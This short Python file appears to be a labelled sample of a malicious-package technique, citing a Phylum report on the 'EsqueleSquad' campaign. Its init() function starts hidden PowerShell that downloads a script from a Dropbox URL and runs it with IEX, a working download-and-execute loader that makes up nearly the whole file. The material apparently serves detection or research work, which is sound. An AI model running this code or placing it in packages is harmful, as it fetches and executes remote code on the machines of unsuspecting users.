# technique: PowerShell IEX of a downloaded script
# class: download-exec
# source: Phylum, "EsqueleSquad" (2023): PowerShell downloads from Dropbox and runs a trojan
# declares: subprocess
import subprocess


def init():
    subprocess.Popen(
        'powershell -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString(\'https://dl.dropbox.com/s/x1/Esquele.ps1\')"',
        shell=True,
    )
